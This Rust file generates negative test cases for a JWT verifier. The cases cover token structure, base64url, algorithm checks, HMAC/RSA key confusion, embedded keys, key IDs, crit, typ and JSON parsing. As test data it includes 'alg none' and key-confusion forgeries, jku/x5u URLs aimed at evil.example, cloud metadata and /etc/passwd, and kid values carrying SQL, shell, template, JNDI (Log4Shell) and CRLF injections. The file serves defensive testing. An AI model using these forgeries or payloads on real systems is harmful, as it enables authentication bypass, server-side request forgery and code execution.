//! Tokens: their form, their header, their signature.

use serde_json::{Value, json};

use super::{add, malformed, no, pass};
use crate::LOGIN;
use crate::canonical::canonical;
use crate::case::{File, Question, get};
use crate::config::{MEMBERS, config, login};
use crate::key::{Algorithm, ED_1, ED_2, P256_1, RSA_1, RSA_1_PUBLIC_PEM, pkcs8};
use crate::token::{Signer, base64url, claims, hmac_token, message, unsigned};

/// The header of a good token.
const HEADER: &str = r#"{"alg":"EdDSA","kid":"ed-1"}"#;

fn field(value: impl Into<String>) -> Question {
    get("/").header("Authorization", value)
}

pub(super) fn structure(signer: &Signer) -> File {
    let good = signer.token(ED_1, &claims());
    let parts: Vec<&str> = good.split('.').collect();
    let (header, payload, signature) = (parts[0], parts[1], parts[2]);
    let inside = |between: &str| format!("Bearer {header}{between}.{payload}.{signature}");
    let file = File::new(
        "tokens_structure",
        "What is no compact token (RFC 7515 §3.1), by its structure.",
        config(&[&login(""), MEMBERS]),
    )
    .keys(LOGIN, &[ED_1.jwk()])
    .case("the token itself passes", get("/").bearer(&good), pass());
    let values = [
        ("an empty token", "Bearer ".to_owned()),
        ("one dot", "Bearer .".to_owned()),
        ("two dots", "Bearer ..".to_owned()),
        ("four dots", "Bearer ....".to_owned()),
        ("one part", format!("Bearer {header}")),
        ("two parts", format!("Bearer {header}.{payload}")),
        ("no header", format!("Bearer .{payload}.{signature}")),
        ("no payload", format!("Bearer {header}..{signature}")),
        ("four parts", format!("Bearer {good}.{signature}")),
        ("five parts", format!("Bearer {good}.{payload}.{signature}")),
        ("a thousand dots", format!("Bearer {}", ".".repeat(1_000))),
        ("eight thousand dots", format!("Bearer {}", ".".repeat(8_000))),
        ("a space in front", format!("Bearer  {good}")),
        ("a space inside", inside(" ")),
        ("a plus sign inside", inside("+")),
        ("an equals sign inside", inside("=")),
        ("an encoded dot", format!("Bearer {header}%2e{payload}%2e{signature}")),
        ("a full-width dot", format!("Bearer {header}．{payload}．{signature}")),
        ("an ideographic full stop", format!("Bearer {header}。{payload}。{signature}")),
        ("a zero-width space", inside("\u{200b}")),
        ("the scheme twice", format!("Bearer Bearer {good}")),
        ("two credentials behind a comma", format!("Bearer {good}, Bearer {good}")),
        ("two tokens behind a comma", format!("Bearer {good},{good}")),
        ("two tokens behind a space", format!("Bearer {good} {good}")),
        ("in quotation marks", format!("Bearer \"{good}\"")),
        ("in single quotation marks", format!("Bearer '{good}'")),
        ("in angle brackets", format!("Bearer <{good}>")),
        ("as a parameter", format!("Bearer token={good}")),
        ("a tab after the scheme", format!("Bearer\t{good}")),
        (
            "the flattened JSON form",
            format!("Bearer {{\"payload\":\"{payload}\",\"protected\":\"{header}\",\"signature\":\"{signature}\"}}"),
        ),
        (
            "the general JSON form",
            format!(
                "Bearer {{\"payload\":\"{payload}\",\"signatures\":[{{\"protected\":\"{header}\",\"signature\":\"{signature}\"}}]}}"
            ),
        ),
        (
            "a polyglot of JSON and the compact form (CVE-2022-39227)",
            format!("Bearer {{\"{header}.\":\"{payload}.{signature}\",\"payload\":\"{payload}\"}}"),
        ),
        ("a token in base64", format!("Bearer {}", base64url(good.as_bytes()))),
    ];
    let file = add(file, values, field, malformed)
        .case("two parts and a dot", field(format!("Bearer {header}.{payload}.")), no("signature_invalid"))
        .case("a colon after the scheme", field(format!("Bearer: {good}")), no("credential_missing"));
    let bytes: [(&str, &[u8]); 6] = [
        ("a line feed", b"\n"),
        ("a carriage return and line feed", b"\r\n"),
        ("a NUL", b"\0"),
        ("a byte 0xff", b"\xff"),
        ("a DEL", b"\x7f"),
        ("a C1 control", b"\xc2\x85"),
    ];
    bytes.into_iter().fold(file, |file, (name, byte)| {
        let inside = [b"Bearer ", header.as_bytes(), byte, b".", payload.as_bytes(), b".", signature.as_bytes()].concat();
        let behind = [b"Bearer ", good.as_bytes(), byte].concat();
        file.case(format!("{name} inside"), get("/").header_bytes("Authorization", &inside), malformed()).case(
            format!("{name} behind"),
            get("/").header_bytes("Authorization", &behind),
            malformed(),
        )
    })
}

pub(super) fn base64(signer: &Signer) -> File {
    let good = signer.token(ED_1, &claims());
    let parts: Vec<&str> = good.split('.').collect();
    let with = |at: usize, part: &str| {
        let mut changed = parts.clone();
        changed[at] = part;
        format!("Bearer {}", changed.join("."))
    };
    let mut values = Vec::new();
    for (at, name) in [(0, "header"), (1, "payload"), (2, "signature")] {
        let part = parts[at];
        for (what, changed) in [
            ("one padding", format!("{part}=")),
            ("two paddings", format!("{part}==")),
            ("three paddings", format!("{part}===")),
            ("padding in front", format!("={part}")),
            ("the standard alphabet's plus", format!("+{}", &part[1..])),
            ("the standard alphabet's slash", format!("/{}", &part[1..])),
            ("a star", format!("{}*", &part[..part.len() - 1])),
            ("an exclamation mark", format!("{part}!")),
        ] {
            values.push((format!("{name}: {what}"), with(at, &changed)));
        }
        // A fourth character more than a group has: no number of bytes is encoded so.
        values.push((format!("{name}: a single character too many"), with(at, &format!("{}A", &part[..part.len() / 4 * 4]))));
        if !part.len().is_multiple_of(4) {
            values.push((format!("{name}: unused bits that are not zero"), with(at, &unused_bits(part))));
        }
    }
    let file = File::new(
        "tokens_base64url",
        "What is no base64url without padding (RFC 7515 §2): no byte has a second spelling.",
        config(&[&login(""), MEMBERS]),
    )
    .keys(LOGIN, &[ED_1.jwk()])
    .case("the token itself passes", get("/").bearer(&good), pass());
    add(file, values, field, malformed)
}

/// Sets the lowest bit of the last character, which no byte has a part in.
fn unused_bits(part: &str) -> String {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = part.split_at(part.len() - 1);
    let position = ALPHABET.find(last).unwrap() ^ 1;
    format!("{rest}{}", &ALPHABET[position..=position])
}

pub(super) fn algorithms(signer: &Signer) -> File {
    let mut file = File::new(
        "tokens_algorithms",
        "The algorithm belongs to the key, and the header has to say it exactly (RFC 8725 §3.1).",
        config(&[&login(""), MEMBERS]),
    )
    .keys(LOGIN, &[ED_1.jwk()])
    .case("the token itself passes", get("/").bearer(&signer.token(ED_1, &claims())), pass());
    let signature = ED_1.sign(Algorithm::EdDsa, b"x");
    for none in ["none", "None", "NONE", "nOnE", "noNE", "NonE", "none ", "non\u{0435}"] {
        let header = json!({ "alg": none, "kid": "ed-1" });
        file = file
            .case(
                format!("alg `{none}` without a signature"),
                get("/").bearer(&unsigned(&header, &claims(), b"")),
                no("algorithm_not_allowed"),
            )
            .case(
                format!("alg `{none}` with a signature"),
                get("/").bearer(&unsigned(&header, &claims(), &signature)),
                no("algorithm_not_allowed"),
            )
            .case(
                format!("alg `{none}`, signed"),
                get("/").bearer(&signer.token_with(ED_1, json!({ "alg": none }), &claims())),
                no("algorithm_not_allowed"),
            );
    }
    for other in [
        "",
        " EdDSA",
        "EdDSA ",
        "eddsa",
        "EDDSA",
        "Ed25519ph",
        "ed25519",
        "Ed448",
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "dir",
        "RSA-OAEP",
        "A128KW",
        "PBES2-HS256+A128KW",
        "ECDH-ES",
        "EdDSA\0",
        "EdDSA,none",
        "../EdDSA",
        "*",
    ] {
        file = file.case(
            format!("alg {other:?}, signed"),
            get("/").bearer(&signer.token_with(ED_1, json!({ "alg": other }), &claims())),
            no("algorithm_not_allowed"),
        );
    }
    for (name, header) in [
        ("no alg", r#"{"kid":"ed-1"}"#),
        ("alg is null", r#"{"alg":null,"kid":"ed-1"}"#),
        ("alg is a number", r#"{"alg":0,"kid":"ed-1"}"#),
        ("alg is true", r#"{"alg":true,"kid":"ed-1"}"#),
        ("alg is an array", r#"{"alg":["EdDSA"],"kid":"ed-1"}"#),
        ("alg is an object", r#"{"alg":{"EdDSA":1},"kid":"ed-1"}"#),
        ("alg twice", r#"{"alg":"none","alg":"EdDSA","kid":"ed-1"}"#),
        ("alg twice, the other way round", r#"{"alg":"EdDSA","alg":"none","kid":"ed-1"}"#),
        ("alg twice, once escaped", r#"{"\u0061lg":"none","alg":"EdDSA","kid":"ed-1"}"#),
    ] {
        file = file.case(name, get("/").bearer(&signer.signed(ED_1, Algorithm::EdDsa, header, &claims().text())), malformed());
    }
    file
}

/// Whatever of a public key could be taken for the secret of an HMAC (RFC 8725 §2.1).
pub(super) fn confusion() -> File {
    let jwk = RSA_1.jwk();
    let der = pkcs8(RSA_1_PUBLIC_PEM);
    // SPKI with a fixed head of 24 bytes: what follows is PKCS #1.
    let pkcs1 = &der[24..];
    let base64 = |bytes: &[u8]| base64_simd::STANDARD.encode_to_string(bytes);
    let modulus = base64_simd::URL_SAFE_NO_PAD.decode_to_vec(RSA_1.modulus()).unwrap();
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        ("the PEM", RSA_1_PUBLIC_PEM.into()),
        ("the PEM without its last line end", RSA_1_PUBLIC_PEM.trim_end().into()),
        ("the PEM with CR LF", RSA_1_PUBLIC_PEM.replace('\n', "\r\n").into()),
        ("the PEM behind an empty line", format!("\n{RSA_1_PUBLIC_PEM}").into()),
        ("the PEM behind a comment", format!("# key\n{RSA_1_PUBLIC_PEM}").into()),
        ("the PEM behind spaces", format!("  {RSA_1_PUBLIC_PEM}").into()),
        ("the PEM in one line", RSA_1_PUBLIC_PEM.replace('\n', "").into()),
        ("the PEM's text alone", base64(&der).into()),
        ("PKCS #1 as PEM", format!("-----BEGIN RSA PUBLIC KEY-----\n{}\n-----END RSA PUBLIC KEY-----\n", base64(pkcs1)).into()),
        ("SPKI as DER", der.clone()),
        ("PKCS #1 as DER", pkcs1.into()),
        ("the JWK", canonical(&jwk).into()),
        ("the JWK, pretty", serde_json::to_string_pretty(&jwk).unwrap().into()),
        ("the JWKS", canonical(&json!({ "keys": [jwk] })).into()),
        ("the modulus", modulus),
        ("the modulus in base64url", RSA_1.modulus().into()),
        ("nothing", Vec::new()),
        ("a NUL", vec![0]),
        ("the kid", RSA_1.name.into()),
    ];
    let mut file = File::new(
        "tokens_confusion",
        "A public RSA key, in every spelling, as the secret of an HMAC: keys have a type, and a secret is none of theirs.",
        config(&[&crate::config::issuer(LOGIN, "\"RS256\"", ""), MEMBERS]),
    )
    .keys(LOGIN, &[RSA_1.jwk()]);
    for (name, secret) in secrets {
        for algorithm in [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512] {
            let with_kid = hmac_token(algorithm, &secret, &json!({ "alg": algorithm.name(), "kid": RSA_1.name }), &claims());
            file = file.case(format!("{name}, {}", algorithm.name()), get("/").bearer(&with_kid), no("algorithm_not_allowed"));
        }
        let as_rs256 = hmac_token(Algorithm::Hs256, &secret, &json!({ "alg": "RS256", "kid": RSA_1.name }), &claims());
        file = file.case(format!("{name}, HS256 that says RS256"), get("/").bearer(&as_rs256), no("signature_invalid"));
    }
    file
}

pub(super) fn brought_keys(signer: &Signer) -> File {
    let attacker = ED_2.jwk();
    let forged = |members: Value| {
        let mut header = json!({ "alg": "EdDSA" });
        header.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        get("/").bearer(&signer.signed(ED_2, Algorithm::EdDsa, &canonical(&header), &claims().text()))
    };
    let mut file = File::new(
        "tokens_brought_keys",
        "Keys that a token brings along, and where it says they are: nobody looks (RFC 8725 §3.10).",
        config(&[&login(""), MEMBERS]),
    )
    .keys(LOGIN, &[ED_1.jwk()]);
    let places = [
        "https://evil.example/jwks",
        "http://127.0.0.1:1/jwks",
        "http://169.254.169.254/",
        "file:///etc/passwd",
        "//evil.example/",
        "https://login.example.com@evil.example/",
        "https://login.example.com.evil.example/",
    ];
    for place in places {
        for member in ["jku", "x5u"] {
            file = file
                .case(
                    format!("{member} {place}, our kid"),
                    forged(json!({ "kid": "ed-1", member: place })),
                    no("signature_invalid"),
                )
                .case(format!("{member} {place}, their kid"), forged(json!({ "kid": "ed-2", member: place })), no("key_unknown"));
        }
    }
    file.case("jwk, our kid (CVE-2018-0114)", forged(json!({ "kid": "ed-1", "jwk": attacker })), no("signature_invalid"))
        .case("jwk, their kid", forged(json!({ "kid": "ed-2", "jwk": attacker })), no("key_unknown"))
        .case("jwk, no kid", forged(json!({ "jwk": attacker })), no("signature_invalid"))
        .case("jwk as text", forged(json!({ "kid": "ed-1", "jwk": canonical(&ED_2.jwk()) })), no("signature_invalid"))
        .case("x5c", forged(json!({ "kid": "ed-1", "x5c": ["MIIB"] })), no("signature_invalid"))
        .case("x5t", forged(json!({ "kid": "ed-1", "x5t": "AAAA" })), no("signature_invalid"))
}

pub(super) fn key_ids(signer: &Signer) -> File {
    let mut file =
        File::new("tokens_key_ids", "The key id selects by being equal, and means nothing else.", config(&[&login(""), MEMBERS]))
            .keys(LOGIN, &[ED_1.jwk(), P256_1.jwk()])
            .case("the token itself passes", get("/").bearer(&signer.token(ED_1, &claims())), pass());
    for kid in [
        "",
        "ED-1",
        "ed-1 ",
        " ed-1",
        "../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'k",
        "|id",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://evil.example/}",
        "__proto__",
        "constructor",
        "*",
        "%65d-1",
        "ed-2",
        "0",
        "null",
        "é",
        "ed\u{2011}1",
    ] {
        file = file.case(
            format!("kid {kid:?}"),
            get("/").bearer(&signer.token_with(ED_1, json!({ "kid": kid }), &claims())),
            no("key_unknown"),
        );
    }
    file = file.case(
        "a kid of 5,000 bytes",
        get("/").bearer(&signer.token_with(ED_1, json!({ "kid": "k".repeat(5_000) }), &claims())),
        malformed(),
    );
    for kid in ["ed-1\0", "ed-1\n", "ed-1\r\nX: y"] {
        let question = get("/").bearer(&signer.token_with(ED_1, json!({ "kid": kid }), &claims()));
        file = file.case(format!("kid {kid:?}"), question, malformed());
    }
    for (name, header) in [
        ("a number", r#"{"alg":"EdDSA","kid":1}"#),
        ("null", r#"{"alg":"EdDSA","kid":null}"#),
        ("an array", r#"{"alg":"EdDSA","kid":["ed-1"]}"#),
        ("an object", r#"{"alg":"EdDSA","kid":{}}"#),
        ("there twice", r#"{"alg":"EdDSA","kid":"x","kid":"ed-1"}"#),
        ("there twice, once escaped", r#"{"alg":"EdDSA","k\u0069d":"x","kid":"ed-1"}"#),
    ] {
        file = file.case(
            format!("kid is {name}"),
            get("/").bearer(&signer.signed(ED_1, Algorithm::EdDsa, header, &claims().text())),
            malformed(),
        );
    }
    file
}

pub(super) fn extensions(signer: &Signer) -> File {
    let with = |members: Value| get("/").bearer(&signer.token_with(ED_1, members, &claims()));
    let mut file = File::new(
        "tokens_extensions",
        "Extensions of the header: none is understood, so none is passed over (RFC 7515 §4.1.11).",
        config(&[&login(""), MEMBERS]),
    )
    .keys(LOGIN, &[ED_1.jwk()]);
    for crit in [
        json!(["exp"]),
        json!(["b64"]),
        json!([]),
        json!(["alg"]),
        json!(["http://evil.example/x"]),
        json!("b64"),
        json!({}),
        json!(1),
        json!([1]),
        json!(["b64", "b64"]),
        json!([[]]),
        json!(["x"]),
    ] {
        file = file.case(format!("crit {crit}"), with(json!({ "crit": crit, "x": 1 })), no("critical_header_unsupported"));
    }
    let null = signer.signed(ED_1, Algorithm::EdDsa, r#"{"alg":"EdDSA","crit":null,"kid":"ed-1"}"#, &claims().text());
    file.case("crit null", get("/").bearer(&null), no("critical_header_unsupported"))
        .case("b64 false and crit (RFC 7797)", with(json!({ "b64": false, "crit": ["b64"] })), no("critical_header_unsupported"))
        .case("b64 false alone", with(json!({ "b64": false })), malformed())
        .case("zip", with(json!({ "zip": "DEF" })), malformed())
        .case("enc", with(json!({ "enc": "A128GCM" })), malformed())
        .case("a nested token", with(json!({ "cty": "JWT" })), malformed())
}

pub(super) fn types(signer: &Signer) -> File {
    let with = |config_lines: &str, name: &'static str, about: &'static str| {
        File::new(name, about, config(&[&login(config_lines), MEMBERS])).keys(LOGIN, &[ED_1.jwk()])
    };
    let mut file =
        with("types = [\"at+jwt\"]", "tokens_types", "A token of one kind is none of another (RFC 8725 §3.11, RFC 9068 §4).");
    for typ in ["at+jwt", "application/at+jwt", "AT+JWT", "Application/At+Jwt"] {
        file = file.case(
            format!("typ {typ:?} passes"),
            get("/").bearer(&signer.token_with(ED_1, json!({ "typ": typ }), &claims())),
            pass(),
        );
    }
    for typ in [
        "JWT",
        "jwt",
        "",
        "at",
        "at+jwt ",
        " at+jwt",
        "at+jwt\0",
        "at+jwt;v=1",
        "application/",
        "application/application/at+jwt",
        "text/at+jwt",
        "id+jwt",
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
        "oauth-authz-req+jwt",
        "gatewright-assertion+jwt",
        "JOSE",
        "JOSE+JSON",
        "*",
        "at+jwt,JWT",
    ] {
        file = file.case(
            format!("typ {typ:?}"),
            get("/").bearer(&signer.token_with(ED_1, json!({ "typ": typ }), &claims())),
            no("token_type_mismatch"),
        );
    }
    file = file.case("no typ", get("/").bearer(&signer.token(ED_1, &claims())), no("token_type_mismatch"));
    for (name, typ) in [("a number", "1"), ("null", "null"), ("an array", "[\"at+jwt\"]"), ("an object", "{}"), ("true", "true")]
    {
        let header = format!(r#"{{"alg":"EdDSA","kid":"ed-1","typ":{typ}}}"#);
        file = file.case(
            format!("typ is {name}"),
            get("/").bearer(&signer.signed(ED_1, Algorithm::EdDsa, &header, &claims().text())),
            malformed(),
        );
    }
    file
}

pub(super) fn json(signer: &Signer) -> File {
    let payload = claims().text();
    let of = |header: &[u8], payload: &[u8]| get("/").bearer(&signer.sign(ED_1, Algorithm::EdDsa, &message(header, payload)));
    let member = |member: &str| payload.replacen('{', &format!("{{{member},"), 1);
    let mut texts: Vec<(String, Vec<u8>, Vec<u8>)> = Vec::new();
    let mut in_payload = |name: &str, text: Vec<u8>| texts.push((format!("payload: {name}"), HEADER.into(), text));
    for (name, wrong) in [
        ("an array", "[]"),
        ("a string", "\"alice\""),
        ("null", "null"),
        ("a number", "1"),
        ("nothing", " "),
        ("open", "{"),
        ("not JSON", "sub=alice"),
        ("single quotation marks", "{'sub':'alice'}"),
        ("a name without quotation marks", "{sub:\"alice\"}"),
    ] {
        in_payload(name, wrong.into());
    }
    for (name, wrong) in [
        ("sub twice", member(r#""sub":"root""#)),
        ("sub twice, once escaped", member(r#""s\u0075b":"root""#)),
        ("exp twice", member(r#""exp":9999999999"#)),
        ("aud twice", member(r#""aud":"other""#)),
        ("iss twice", member(r#""iss":"https://evil.example""#)),
        ("a private claim twice", member(r#""role":"user","role":"admin""#)),
        ("a private claim twice, deep inside", member(r#""x":{"y":[{"role":1,"role":2}]}"#)),
        ("NaN", member(r#""x":NaN"#)),
        ("Infinity", member(r#""x":Infinity"#)),
        ("a number with a leading zero", member(r#""x":01"#)),
        ("a number with a plus sign", member(r#""x":+1"#)),
        ("a hexadecimal number", member(r#""x":0x1"#)),
        ("a lone surrogate", member(r#""x":"\ud800""#)),
        ("surrogates the wrong way round", member(r#""x":"\udc00\ud800""#)),
        ("an escape that is none", member(r#""x":"\x41""#)),
        ("a raw line end in a string", member("\"x\":\"a\nb\"")),
        ("a raw tab in a string", member("\"x\":\"a\tb\"")),
        ("a raw NUL in a string", member("\"x\":\"a\0b\"")),
        ("a comment", member("/* x */ \"x\":1")),
        ("a line comment", member("// x\n\"x\":1")),
        ("a comma too many", payload.replacen('}', ",}", 1)),
        ("two documents", format!("{payload}{payload}")),
        ("a byte order mark", format!("\u{feff}{payload}")),
        ("a NUL behind", format!("{payload}\0")),
        ("a form feed in front", format!("\u{c}{payload}")),
        ("a no-break space in front", format!("\u{a0}{payload}")),
        ("arrays 200 deep", member(&format!("\"x\":{}{}", "[".repeat(200), "]".repeat(200)))),
        ("objects 200 deep", member(&format!("\"x\":{}1{}", "{\"a\":".repeat(200), "}".repeat(200)))),
        ("arrays 2,000 deep, never closed", member(&format!("\"x\":{}", "[".repeat(2_000)))),
    ] {
        in_payload(name, wrong.into());
    }
    for (name, byte) in [
        ("0xff", b"\xff".as_slice()),
        ("an overlong slash", b"\xc0\xaf"),
        ("a surrogate", b"\xed\xa0\x80"),
        ("a cut character", b"\xc3"),
        ("beyond Unicode", b"\xf4\x90\x80\x80"),
    ] {
        let wrong = [b"{\"x\":\"", byte, b"\",", &payload.as_bytes()[1..]].concat();
        in_payload(&format!("no UTF-8: {name}"), wrong);
    }
    for (name, wrong) in [
        ("an array", "[]".to_owned()),
        ("a string", "\"EdDSA\"".to_owned()),
        ("null", "null".to_owned()),
        ("not JSON", "alg=EdDSA".to_owned()),
        ("two documents", format!("{HEADER}{HEADER}")),
        ("a byte order mark", format!("\u{feff}{HEADER}")),
        ("a comment", HEADER.replacen('{', "{/**/", 1)),
        ("a lone surrogate", HEADER.replacen('{', r#"{"x":"\ud800","#, 1)),
        ("a private member twice", HEADER.replacen('{', r#"{"x":1,"x":2,"#, 1)),
        ("arrays 200 deep", HEADER.replacen('{', &format!("{{\"x\":{}{},", "[".repeat(200), "]".repeat(200)), 1)),
    ] {
        texts.push((format!("header: {name}"), wrong.into(), payload.clone().into()));
    }
    let file =
        File::new("tokens_json", "What is no I-JSON (RFC 7493): no text is read two ways.", config(&[&login(""), MEMBERS]))
            .keys(LOGIN, &[ED_1.jwk()])
            .case("the token itself passes", get("/").bearer(&signer.token(ED_1, &claims())), pass());
    texts.into_iter().fold(file, |file, (name, header, payload)| file.case(name, of(&header, &payload), malformed()))
}
